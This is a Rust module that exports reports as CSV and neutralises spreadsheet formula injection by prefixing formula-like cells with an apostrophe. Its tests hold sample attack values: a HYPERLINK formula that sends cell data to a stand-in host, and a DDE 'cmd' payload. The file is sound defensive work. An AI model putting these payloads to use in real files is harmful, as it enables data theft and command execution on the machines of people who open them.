//! CSV: UTF-8 with a BOM (so Excel and WPS open it as Chinese), CRLF lines, the report's title,
//! then each sheet under its title, separated by an empty line.
//!
//! Every CSV the product writes goes through [`Csv`], which quotes through the `csv` crate and
//! neutralises formulas: a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or
//! a carriage return as a formula (`=HYPERLINK(...)` in an applicant's name sends the sheet's
//! data away when clicked), so such a cell is written with a leading `'`, which Excel and WPS
//! show as text (OWASP's advice). A plain number such as `-12.5` or `-3.0%` is no formula and
//! stays as it is.

use super::{sheets, title};
use crate::services::stats::Report;

pub const CONTENT_TYPE: &str = "text/csv; charset=utf-8";

/// Whether a spreadsheet would read `s` as a formula.
pub fn looks_like_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

/// A number as the reports print one (digits, a sign, a point, thousands commas, a percent).
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let digits = digits.strip_suffix('%').unwrap_or(digits);
    !digits.is_empty()
        && digits.starts_with(|c: char| c.is_ascii_digit())
        && digits
            .chars()
            .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
}

/// The cell as it is safe to write: a formula-like text with a leading `'`.
pub fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    if looks_like_formula(s) && !is_plain_number(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// A CSV document being written: the BOM, then records with CRLF line ends.
pub struct Csv {
    writer: ::csv::Writer<Vec<u8>>,
}

impl Default for Csv {
    fn default() -> Self {
        Csv::new()
    }
}

impl Csv {
    pub fn new() -> Csv {
        let writer = ::csv::WriterBuilder::new()
            .flexible(true)
            .terminator(::csv::Terminator::CRLF)
            .from_writer("\u{FEFF}".as_bytes().to_vec());
        Csv { writer }
    }

    /// One record, each cell neutralised.
    pub fn record<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        // Writing into memory cannot fail; a record with no cells is an empty line.
        let _ = if cells.is_empty() {
            self.writer.write_record([""])
        } else {
            self.writer.write_record(&cells)
        };
    }

    /// The document as text.
    pub fn finish(self) -> String {
        let bytes = self.writer.into_inner().unwrap_or_default();
        // Only UTF-8 strings went in.
        String::from_utf8(bytes).unwrap_or_default()
    }
}

pub fn render(report: &Report) -> String {
    let mut out = Csv::new();
    out.record([title(report)]);
    for sheet in sheets(report, true) {
        out.record(Vec::<String>::new());
        out.record([sheet.title.clone()]);
        out.record(sheet.header.iter().map(String::as_str));
        for row in &sheet.rows {
            out.record(row.iter().map(|c| c.plain()));
        }
    }
    out.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(cells: &[&str]) -> String {
        let mut out = Csv::new();
        out.record(cells.iter().copied());
        out.finish()
    }

    #[test]
    fn fields_with_commas_quotes_or_line_breaks_are_quoted() {
        assert_eq!(one(&["恒达", "a,b"]), "\u{FEFF}恒达,\"a,b\"\r\n");
        assert_eq!(one(&["say \"hi\""]), "\u{FEFF}\"say \"\"hi\"\"\"\r\n");
        assert_eq!(one(&["two\nlines"]), "\u{FEFF}\"two\nlines\"\r\n");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        let link = r#"=HYPERLINK("http://evil.example/?"&A1,"点此")"#;
        assert_eq!(
            one(&[link]),
            "\u{FEFF}\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\"\r\n"
        );
        for bad in ["+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"] {
            assert!(neutralise(bad).starts_with('\''), "{bad:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_as_they_are() {
        for fine in ["-12.5", "-3.0%", "+4", "1,234.00", "王芳", "a=b", "—", ""] {
            assert_eq!(neutralise(fine), fine);
        }
    }
}
